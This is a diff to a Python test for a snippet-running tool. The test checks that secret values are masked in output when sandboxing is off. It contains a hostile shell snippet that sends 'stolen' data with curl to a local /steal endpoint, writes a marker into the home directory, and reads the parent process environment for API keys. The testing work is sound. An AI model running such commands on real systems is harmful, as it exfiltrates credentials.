@@ -412,16 +412,17 @@ def test_the_hostile_checks_can_fail_without_isolation(tmp_path: Path) -> None:
     curl = (
         f"curl -sS --max-time 5 http://127.0.0.1:{port}/steal --data stolen || true\n"
         f"echo leaked > {home}/marker\n"
-        "tr '\\0' '\\n' < /proc/$PPID/environ | grep CONTROL_API_KEY\n"
+        "tr '\\0' '\\n' < /proc/$PPID/environ | grep -E '^(CONTROL_API_KEY|TINY_AUTH)='\n"
     )
     root = tmp_path / "project"
     write_project(root, {"curl": curl}, settings='sandbox = "off"\n')
-    env = {**os.environ, "CONTROL_API_KEY": key, "HOME": str(home)}
+    auth = "tiny-auth-not-a-key-shape-42"  # no secret-looking name: masked because the snippet names it
+    env = {**os.environ, "CONTROL_API_KEY": key, "TINY_AUTH": auth, "HOME": str(home)}
     run = subprocess.run(
         [str(SNIPPETGEN), "run", "tiny.echo", "--root", str(root)], capture_output=True, text=True, env=env
     )
     outside.close()
     assert received and b"steal" in received[0]
     assert (home / "marker").read_text() == "leaked\n"
-    assert f"CONTROL_API_KEY={MASK}" in run.stdout, run.stdout
-    assert key not in run.stdout + run.stderr
+    assert f"CONTROL_API_KEY={MASK}" in run.stdout and f"TINY_AUTH={MASK}" in run.stdout, run.stdout
+    assert key not in run.stdout + run.stderr and auth not in run.stdout + run.stderr
